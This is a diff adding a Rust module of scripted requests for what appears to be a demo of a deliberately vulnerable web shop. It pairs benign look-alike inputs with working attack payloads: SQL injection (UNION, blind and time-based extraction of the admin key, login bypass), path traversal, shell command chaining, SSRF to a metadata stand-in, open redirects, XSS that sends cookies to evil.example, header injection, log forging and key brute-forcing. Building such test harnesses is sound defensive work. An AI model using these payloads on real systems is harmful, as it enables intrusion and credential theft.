@@ -1,0 +1,392 @@
+//! The scripted requests: for every sink class, benign requests (several
+//! of them look-alikes a naive filter would refuse) and real attacks, each
+//! with the effect that shows it worked.
+//!
+//! The order matters in one place: every `POST /login` spends the client
+//! address's login budget (a burst of ten), so the key-guessing burst comes
+//! last and the benign logins before it stay within the budget.
+
+use std::net::SocketAddr;
+use std::path::Path;
+use std::time::Duration;
+
+use super::http::{Request, encode};
+use super::outcome::{Check, Expected};
+
+/// One row of the demo.
+#[derive(Debug, Clone)]
+pub(crate) struct Scenario {
+    /// The sink class (or `rate limit`).
+    pub(crate) class: &'static str,
+    /// What the request does, for the table.
+    pub(crate) label: String,
+    /// Benign or attack.
+    pub(crate) expected: Expected,
+    /// The requests, sent in order: one, or a burst.
+    pub(crate) requests: Vec<Request>,
+    /// How success (benign) or the attack's effect is recognised.
+    pub(crate) check: Check,
+}
+
+/// The shop's own hosts: a `Location` elsewhere is off-site.
+const OWN_HOSTS: &[&str] = &["partner.shop.example"];
+
+/// The admin's API key, as the seed data has it.
+const ADMIN_KEY: &str = "key-admin-91c2";
+
+/// The forged audit line the log attack writes.
+pub(crate) const FORGED_LINE: &str = "t=1764374400 login ok user=admin";
+
+/// Where the stand-ins and the marker are.
+#[derive(Debug, Clone)]
+pub(crate) struct Setup<'a> {
+    /// The avatar CDN stand-in (reached through the shop's avatar host).
+    pub(crate) cdn: SocketAddr,
+    /// The internal metadata stand-in.
+    pub(crate) metadata: SocketAddr,
+    /// The file an injected command writes.
+    pub(crate) marker: &'a Path,
+    /// The shop's avatar host name.
+    pub(crate) avatar_host: &'a str,
+}
+
+fn get(path: &str, query: &[(&str, &str)]) -> Request {
+    let query: Vec<String> = query
+        .iter()
+        .map(|(k, v)| format!("{k}={}", encode(v)))
+        .collect();
+    let target = match query.is_empty() {
+        true => path.to_owned(),
+        false => format!("{path}?{}", query.join("&")),
+    };
+    Request {
+        method: "GET",
+        target,
+        form: None,
+    }
+}
+
+fn login(name: &str, key: &str, next: &str) -> Request {
+    Request {
+        method: "POST",
+        target: "/login".to_owned(),
+        form: Some(format!(
+            "name={}&key={}&next={}",
+            encode(name),
+            encode(key),
+            encode(next)
+        )),
+    }
+}
+
+fn one(
+    class: &'static str,
+    expected: Expected,
+    label: impl Into<String>,
+    request: Request,
+    check: Check,
+) -> Scenario {
+    Scenario {
+        class,
+        label: label.into(),
+        expected,
+        requests: vec![request],
+        check,
+    }
+}
+
+/// The heavy query a time-based blind probe runs when its condition on the
+/// admin's key holds: SQLite has no `sleep`, so sqlmap-style probes make
+/// the database count instead.
+/// About 0.4 s on a release build when the condition holds, 10 ms when
+/// not; the rows stay empty either way, so only the clock tells.
+const HEAVY: &str = "zzz' OR (CASE WHEN substr((SELECT api_key FROM users WHERE name='admin'),1,9)='key-admin' \
+     THEN (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c WHERE x<1000000) SELECT count(*) FROM c) \
+     ELSE 0 END) < 0 --";
+
+/// Every scenario, in the order sent.
+pub(crate) fn scenarios(setup: &Setup<'_>) -> Vec<Scenario> {
+    use Expected::{Attack, Benign};
+    let avatar = format!(
+        "http://{}:{}/avatars/ann.png",
+        setup.avatar_host,
+        setup.cdn.port()
+    );
+    let metadata = format!(
+        "http://{}/latest/meta-data/iam/security-credentials/",
+        setup.metadata
+    );
+    let metadata_decimal = format!(
+        "http://2130706433:{}/latest/meta-data/",
+        setup.metadata.port()
+    );
+    let marker = setup.marker.display().to_string();
+    let shell = format!("x; echo pwned > '{marker}'; echo ");
+    let guesses = (0..15)
+        .map(|n| login("admin", &format!("guess-{n:02}"), "/"))
+        .collect();
+    vec![
+        // SQL
+        one(
+            "sql",
+            Benign,
+            "search `kett`",
+            get("/search", &[("q", "kett")]),
+            Check::BodyIs(r#"["kettle"]"#),
+        ),
+        one(
+            "sql",
+            Benign,
+            "search `tea -- 1=1 OR union select`",
+            get("/search", &[("q", "tea -- 1=1 OR union select")]),
+            Check::Served(200),
+        ),
+        one(
+            "sql",
+            Attack,
+            "UNION: `zzz' UNION SELECT api_key FROM users --`",
+            get(
+                "/search",
+                &[("q", "zzz' UNION SELECT api_key FROM users --")],
+            ),
+            Check::BodyContains(ADMIN_KEY),
+        ),
+        one(
+            "sql",
+            Attack,
+            "boolean blind: admin key starts `key-admin`?",
+            get(
+                "/search",
+                &[(
+                    "q",
+                    "zzz' OR substr((SELECT api_key FROM users WHERE name = 'admin'), 1, 9) = 'key-admin' --",
+                )],
+            ),
+            Check::BodyIs(r#"["kettle","teapot","mug"]"#),
+        ),
+        one(
+            "sql",
+            Attack,
+            "time-based blind: slow query if admin key matches",
+            get("/search", &[("q", HEAVY)]),
+            Check::SlowerThan(Duration::from_millis(150)),
+        ),
+        one(
+            "sql",
+            Attack,
+            "login bypass: name `admin' --`",
+            login("admin' --", "x", "/"),
+            Check::LoggedIn,
+        ),
+        // Path
+        one(
+            "path",
+            Benign,
+            "download `manual.txt`",
+            get("/files/manual.txt", &[]),
+            Check::BodyIs("kettle manual\n"),
+        ),
+        one(
+            "path",
+            Attack,
+            "traversal: `/files/..%2Fsecret.txt`",
+            get("/files/..%2Fsecret.txt", &[]),
+            Check::BodyContains("shop secret"),
+        ),
+        // Shell
+        one(
+            "shell",
+            Benign,
+            "export `march-2026_v2`",
+            get("/export", &[("name", "march-2026_v2")]),
+            Check::BodyIs("exported\n"),
+        ),
+        one(
+            "shell",
+            Attack,
+            "command chaining: `x; echo pwned > MARKER; echo `",
+            get("/export", &[("name", &shell)]),
+            Check::MarkerWritten,
+        ),
+        // SSRF
+        one(
+            "ssrf",
+            Benign,
+            format!("avatar from {}", setup.avatar_host),
+            get("/avatar", &[("url", &avatar)]),
+            Check::BodyIs("PNG-AVATAR"),
+        ),
+        one(
+            "ssrf",
+            Attack,
+            "avatar from 127.0.0.1 metadata stand-in",
+            get("/avatar", &[("url", &metadata)]),
+            Check::InternalReached,
+        ),
+        one(
+            "ssrf",
+            Attack,
+            "avatar from `2130706433` (127.0.0.1 as a number)",
+            get("/avatar", &[("url", &metadata_decimal)]),
+            Check::InternalReached,
+        ),
+        // Redirect
+        one(
+            "redirect",
+            Benign,
+            "login, next `/orders?page=2`",
+            login("ann", "key-ann-7f3a", "/orders?page=2"),
+            Check::Served(303),
+        ),
+        one(
+            "redirect",
+            Benign,
+            "login, next `/welcome?from=https://evil.example`",
+            login("ann", "key-ann-7f3a", "/welcome?from=https://evil.example"),
+            Check::Served(303),
+        ),
+        one(
+            "redirect",
+            Benign,
+            "login, next `https://partner.shop.example/`",
+            login("ann", "key-ann-7f3a", "https://partner.shop.example/"),
+            Check::Served(303),
+        ),
+        one(
+            "redirect",
+            Attack,
+            "open redirect: next `https://evil.example/phish`",
+            login("ann", "key-ann-7f3a", "https://evil.example/phish"),
+            Check::LocationOffSite(OWN_HOSTS),
+        ),
+        one(
+            "redirect",
+            Attack,
+            "open redirect: next `//evil.example/`",
+            login("ann", "key-ann-7f3a", "//evil.example/"),
+            Check::LocationOffSite(OWN_HOSTS),
+        ),
+        // HTML
+        one(
+            "html",
+            Benign,
+            "profile `Ann & Bob`, bio `I <3 tea; 2 < 3`",
+            get(
+                "/profile",
+                &[("name", "Ann & Bob"), ("bio", "I <3 tea; 2 < 3")],
+            ),
+            Check::BodyContains("Ann & Bob"),
+        ),
+        one(
+            "html",
+            Attack,
+            "XSS: name `<script>…document.cookie…</script>`",
+            get(
+                "/profile",
+                &[
+                    (
+                        "name",
+                        "Ann<script>fetch('https://evil.example/?c='+document.cookie)</script>",
+                    ),
+                    ("bio", "tea"),
+                ],
+            ),
+            Check::BodyContains("<script>fetch("),
+        ),
+        one(
+            "html",
+            Attack,
+            "XSS: bio `<img src=x onerror=alert(1)>`",
+            get(
+                "/profile",
+                &[("name", "Ann"), ("bio", "<img src=x onerror=alert(1)>")],
+            ),
+            Check::BodyContains("<img src=x onerror="),
+        ),
+        // Header
+        one(
+            "header",
+            Benign,
+            "language `pt-BR`",
+            get("/lang", &[("lang", "pt-BR")]),
+            Check::Served(303),
+        ),
+        one(
+            "header",
+            Attack,
+            "cookie attrs: `en; Domain=shop.example; Max-Age=…`",
+            get(
+                "/lang",
+                &[("lang", "en; Domain=shop.example; Max-Age=315360000")],
+            ),
+            Check::HeaderContains("set-cookie", "Domain=shop.example"),
+        ),
+        // Log
+        one(
+            "log",
+            Benign,
+            "failed login as `Zoë<TAB>Neil \\n`",
+            login("Zoë\tNeil \\n", "wrong", "/"),
+            Check::Served(401),
+        ),
+        one(
+            "log",
+            Attack,
+            "log forging: `bob<LF>t=… login ok user=admin`",
+            login(&format!("bob\n{FORGED_LINE}"), "wrong", "/"),
+            Check::AuditLine(FORGED_LINE),
+        ),
+        // Rate limit: last, it spends the rest of the login budget.
+        Scenario {
+            class: "rate limit",
+            label: "15 key guesses for `admin` in a row".to_owned(),
+            expected: Attack,
+            requests: guesses,
+            check: Check::Unthrottled,
+        },
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn setup() -> Vec<Scenario> {
+        scenarios(&Setup {
+            cdn: "127.0.0.1:1001".parse().unwrap(),
+            metadata: "127.0.0.1:1002".parse().unwrap(),
+            marker: Path::new("/tmp/marker"),
+            avatar_host: "avatars.shop.example",
+        })
+    }
+
+    #[test]
+    fn every_class_has_a_benign_request_and_an_attack() {
+        let all = setup();
+        for class in [
+            "sql", "path", "shell", "ssrf", "redirect", "html", "header", "log",
+        ] {
+            for expected in [Expected::Benign, Expected::Attack] {
+                assert!(
+                    all.iter()
+                        .any(|s| s.class == class && s.expected == expected),
+                    "{class} has no {} request",
+                    expected.as_str()
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn the_guessing_burst_comes_after_every_other_login() {
+        let all = setup();
+        let logins: Vec<usize> = all
+            .iter()
+            .map(|s| s.requests.iter().filter(|r| r.target == "/login").count())
+            .collect();
+        let (last, before) = logins.split_last().unwrap();
+        // The policy's burst is ten per address.
+        assert!(before.iter().sum::<usize>() < 10, "{logins:?}");
+        assert!(*last > 10, "{logins:?}");
+    }
+}
